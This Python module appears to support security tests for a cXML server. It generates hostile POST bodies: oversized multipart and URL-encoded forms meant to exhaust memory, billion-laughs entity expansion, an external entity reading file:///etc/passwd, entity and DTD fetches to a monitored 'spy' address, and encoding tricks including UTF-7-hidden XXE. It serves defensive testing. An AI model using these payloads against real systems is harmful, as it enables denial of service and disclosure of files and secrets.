"""Posts made to keep a server busy, to fill its memory, to read its files, or to leave a secret where it is kept.

Each is made around a document, so that it can be tried with a token that is known and with one that is not.
"""

import base64
import os
import re
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import quote_plus

MEGABYTE = 1024 * 1024
FORM = "application/x-www-form-urlencoded"
FIELD = b'Content-Disposition: form-data; name="cxml-urlencoded"'

_K = 1024
_LARGEST = 16 * MEGABYTE - 64 * _K
_ROOM = 4 * MEGABYTE - 64 * _K
_DECLARED = re.compile("""encoding=["'][^"']*["']""")
_NAME = b"Content-Disposition: form-data; name="
_FILE = b'<!ENTITY f SYSTEM "file:///etc/passwd">'
_ENCODINGS = ("UTF-7", "UTF-16", "UTF-16LE", "UTF-16BE", "UTF-32", "UTF-32BE", "cp037", "ISO-8859-1", "shift_jis")
_PRICES = {"3 MB of digits": b"9" * 3 * MEGABYTE, "an exponent": b"1E+999999999", "not a number": b"NaN"}


@dataclass(frozen=True)
class Post:
    """A request's body, and of which type it says it is."""

    content_type: str
    body: bytes


def _repeated(template: bytes, times: int) -> bytes:
    return b"".join(template % number for number in range(times))


def _parts(*hostile: bytes) -> Callable[[bytes], Post]:
    """A form whose first parts are hostile, and whose last one is the document."""

    def post(document: bytes) -> Post:
        parts = b"".join(b"--b\r\n" + part + b"\r\n" for part in hostile)
        last = b"--b\r\n" + FIELD + b"\r\n\r\n" + document + b"\r\n--b--"
        return Post("multipart/form-data; boundary=b", parts + last)

    return post


def _fields(hostile: bytes) -> Callable[[bytes], Post]:
    """A form whose first fields are hostile, and whose last one is the document."""
    return lambda document: Post(FORM, hostile + b"&cxml-urlencoded=" + quote_plus(document).encode())


def _nested(document: bytes) -> Post:
    head = b"Content-Type: multipart/mixed; boundary=%d\r\n\r\n--%d\r\n"
    return _parts(b"".join(head % (number, number) for number in range(30 * _K)))(document)


#: Forms and parts around a document.
FORMS: dict[str, Callable[[bytes], Post]] = {
    "a header of 512 KB in a part": _parts(_NAME + b'"' + b"a" * 512 * _K + b'"\r\n\r\nx'),
    "encoded words of 256 KB": _parts(_NAME + b'"' + b"=?utf-8?q?=41?= " * 16 * _K + b'"\r\n\r\nx'),
    "parentheses of 256 KB": _parts(_NAME + b"(" * 256 * _K + b"\r\n\r\nx"),
    "brackets and quotes of 256 KB": _parts(b'Content-Type: a/b; c="' + b'<"\\' * 85 * _K + b"\r\n\r\nx"),
    "continued parameters": _parts(_NAME + _repeated(b";\r\n name*%d*=utf-8''a", 16 * _K) + b"\r\n\r\nx"),
    "headers without an end, 12 MB": _parts(b"a: b\r\n" * 2 * MEGABYTE),
    "empty parts, 15 MB": _parts(b"\r\n--b\r\n" * (_LARGEST // 7)),
    "empty fields, 2 MB": _parts(*[FIELD + b"\r\n\r\n"] * (2 * MEGABYTE // 70)),
    "nested parts": _nested,
    "one part of 16 MB": _parts(FIELD.replace(b"cxml-", b"") + b"\r\n\r\n" + b"a" * _LARGEST),
    "almost boundaries, 16 MB": _parts(b"\r\n\r\n" + b"\r\n--" * (_LARGEST // 4)),
    "percents of 8 MB": _fields(b"a=" + b"%" * 8 * MEGABYTE),
    "percents of 8 MB as a name": _fields(b"%" * 8 * MEGABYTE),
    "ampersands of 16 MB": _fields(b"&" * _LARGEST),
    "escapes of 16 MB": _fields(b"a=" + b"%41" * (_LARGEST // 3)),
    "semicolons and blanks": _fields(b"a=" + b"+;" * (_LARGEST // 2)),
    "percents of 8 MB as the document": lambda _document: Post(FORM, b"cxml-urlencoded=" + b"%" * 8 * MEGABYTE),
    "base64 of 16 MB": lambda _document: Post(FORM, b"cxml-base64=" + b"AAAA" * (_LARGEST // 4)),
    "NULs of 16 MB": lambda _document: Post("text/xml", b"\0" * _LARGEST),
    "noise of 4 MB": lambda _document: Post("text/xml", b"<" + os.urandom(_ROOM)),
}


def _inside(content: bytes) -> Callable[[bytes], bytes]:
    return lambda document: document.replace(b"</cXML>", content + b"</cXML>")


def _declaring(declarations: bytes, content: bytes = b"") -> Callable[[bytes], bytes]:
    """The document with declarations of its own."""

    def change(document: bytes) -> bytes:
        subset = re.sub(rb"(<!DOCTYPE cXML[^>]*)>", lambda found: found[1] + b" [" + declarations + b"]>", document)
        return _inside(content)(subset)

    return change


def _priced(pattern: bytes, price: bytes) -> Callable[[bytes], bytes]:
    return lambda document: re.sub(pattern, price, document, count=1)


def documents(spy: str) -> dict[str, Callable[[bytes], bytes]]:
    """Documents that are hostile themselves.

    :param spy: an address that nobody must ask for
    """
    laughs = b"".join(b'<!ENTITY l%d "%s">' % (n + 1, b"&l%d;" % n * 10) for n in range(9))
    asks = b'<!ENTITY %% f SYSTEM "%s"> %%f;' % spy.encode()
    return {
        "elements in each other": _inside(b"<a>" * (_ROOM // 8) + b"</a>" * (_ROOM // 8)),
        "elements beside each other": _inside(b"<a/>" * (_ROOM // 4 - _K)),
        "elements as close as are read": _inside(b"<aaaaaa/>" * (_ROOM // 9 - _K)),
        "attributes": _inside(b"<a" + _repeated(b' x%d=""', _ROOM // 12) + b"/>"),
        "namespaces": _inside(b'<a xmlns:n="u:1"/>' * (_ROOM // 20)),
        "a text of 4 MB": _inside(b"<a>" + b"x" * (_ROOM - 9 * _K) + b"</a>"),
        "comments": _inside(b"<!---->" * (_ROOM // 8)),
        "instructions": _inside(b"<?a b?>" * (_ROOM // 8)),
        "characters of no kind": _inside(b"&#0;&#xD800;&#x110000;" * 99),
        "a NUL inside": _inside(b"<a>\0</a>"),
        "bytes of no encoding": _inside(b"<a>\xff\xfe\xc0\x80</a>"),
        "entities of entities": _declaring(b'<!ENTITY l0 "ha">' + laughs, b"<a>&l9;</a>"),
        "one entity, often": _declaring(b'<!ENTITY a "' + b"a" * MEGABYTE + b'">', b"<a>" + b"&a;" * 99999 + b"</a>"),
        "defaults of attributes": _declaring(b'<!ATTLIST a b CDATA "' + b"b" * 99 * _K + b'">', b"<a/>" * 99999),
        "an entity from a file": _declaring(_FILE, b"<a>&f;</a>"),
        "an entity from the network": _declaring(asks),
        "a DTD from the network": lambda document: re.sub(rb'(?<=SYSTEM ")[^"]*', spy.encode(), document),
        **{f"{name} as a price": _priced(rb"(?<=>)[0-9.]+(?=</Money>)", price) for name, price in _PRICES.items()},
        **{f"{name} as a quantity": _priced(rb'(?<=quantity=")[0-9]+', price) for name, price in _PRICES.items()},
    }


def _encoded(encoding: str) -> Callable[[bytes], bytes]:
    return lambda document: _DECLARED.sub(f'encoding="{encoding}"', document.decode(), count=1).encode(
        encoding, "replace"
    )


def _in_utf7(document: bytes) -> bytes:
    """In UTF-7 with its marks hidden, so that only who decodes it sees the entity."""
    text = _declaring(_FILE)(document).decode().replace("<SharedSecret>", "<SharedSecret>&f;")
    head, end, rest = _DECLARED.sub('encoding="UTF-7"', text, count=1).partition("?>")
    hidden = {mark: base64.b64encode(mark.encode("utf-16-be")).decode().rstrip("=") for mark in "<>&![]"}
    return (head + end + "".join(f"+{hidden[mark]}-" if mark in hidden else mark for mark in rest)).encode()


#: The same document so that its secret might be kept.
DISGUISES: dict[str, Callable[[bytes], bytes]] = {
    **{encoding: _encoded(encoding) for encoding in _ENCODINGS},
    "UTF-7 with entities": _in_utf7,
    "a document that ends early": lambda document: document[: document.index(b"</SharedSecret>") + 5],
    "no XML at all": lambda document: document.replace(b"<", b"[").replace(b">", b"]"),
    "broken XML": lambda document: document.replace(b"</cXML>", b"<&"),
    "characters by number": lambda document: re.sub(
        rb"(?<=<SharedSecret>)[^<]*", lambda found: b"".join(b"&#%d;" % char for char in found[0]), document
    ),
    "a section of characters": lambda document: re.sub(
        rb"<SharedSecret>([^<]*)", rb"<SharedSecret><![CDATA[\1]]>", document
    ),
    "an element with a prefix": lambda document: document.replace(b"SharedSecret>", b"n:SharedSecret>").replace(
        b"<cXML ", b'<cXML xmlns:n="u:n" ', 1
    ),
    "an element in capitals": lambda document: document.replace(b"SharedSecret>", b"SHAREDSECRET>"),
    "an attribute": lambda document: re.sub(
        rb"<SharedSecret>([^<]*)</SharedSecret>", rb'<SharedSecret a="\1"/>', document
    ),
}


def hides(secret: str) -> list[bytes]:
    """How a secret may be in bytes."""
    encodings = ("utf-8", "utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be", "cp037")
    by_number = "".join(f"&#{ord(char)};" for char in secret)
    return [*(secret.encode(encoding) for encoding in encodings), by_number.encode()]
